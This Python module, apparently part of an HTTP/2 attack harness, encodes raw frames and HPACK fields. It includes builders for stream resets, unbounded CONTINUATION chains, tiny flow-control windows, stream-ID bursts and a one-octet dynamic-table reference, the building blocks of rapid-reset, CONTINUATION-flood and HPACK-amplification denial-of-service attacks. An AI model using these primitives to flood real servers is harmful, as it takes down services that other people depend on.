"""HTTP/2 on the wire (RFC 9113), as far as an attacker writes it: frames and fields, right or wrong. Reads nothing."""
import struct

from attack import HOST

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
LARGEST_WINDOW = (1 << 31) - 1
FRAME_BYTES = 16384


def frame(kind, stream=0, payload=b"", flags=0):
    """RFC 9113 section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def number(value, bits, pattern=0):
    """An integer of HPACK with `bits` bits in its first octet (RFC 7541 section 5.1)."""
    largest = (1 << bits) - 1
    if value < largest:
        return bytes((pattern | value,))
    octets, value = bytearray((pattern | largest,)), value - largest
    while value > 127:
        octets.append(128 | value & 127)
        value >>= 7
    octets.append(value)
    return bytes(octets)


def field(name, value, keep=False):
    """A literal field (RFC 7541 section 6.2); `keep`: it goes into the dynamic table, as index 62."""
    return (number(0, 6, 0x40) if keep else b"\0") + number(len(name), 7) + name + number(len(value), 7) + value


#: The newest entry of the dynamic table, by its index: one octet for as many bytes as the entry has.
NEWEST = number(62, 7, 0x80)


def request_fields(path, method=b"GET", *others):
    """The pseudo-fields of a request, and whatever else."""
    wanted = ((b":method", method), (b":scheme", b"http"), (b":authority", HOST), (b":path", path), *others)
    return b"".join(field(*pair) for pair in wanted)


def headers(stream, block, ends=True, complete=True):
    return frame(HEADERS, stream, block, (END_STREAM if ends else 0) | (END_HEADERS if complete else 0))


def block_frames(stream, block):
    """A head of any length: HEADERS, and CONTINUATION for what does not fit."""
    parts = [block[at:at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
    frames = [headers(stream, parts[0], complete=len(parts) == 1)]
    for place, part in enumerate(parts[1:], start=2):
        frames.append(frame(CONTINUATION, stream, part, END_HEADERS if place == len(parts) else 0))
    return b"".join(frames)


def reset(stream, code=CANCEL):
    return frame(RST_STREAM, stream, struct.pack(">I", code))


def window(stream, increment):
    return frame(WINDOW_UPDATE, stream, struct.pack(">I", increment))


def opening(**settings):
    """The client's preface, with settings by name: `window` is SETTINGS_INITIAL_WINDOW_SIZE."""
    pairs = b"".join(struct.pack(">HI", {"window": INITIAL_WINDOW_SIZE}[name], settings[name]) for name in settings)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=pairs)


def streams(burst, count, first=1):
    """Identifiers of `count` streams, other ones in each burst."""
    return range(first + 2 * count * burst, first + 2 * count * (burst + 1), 2)
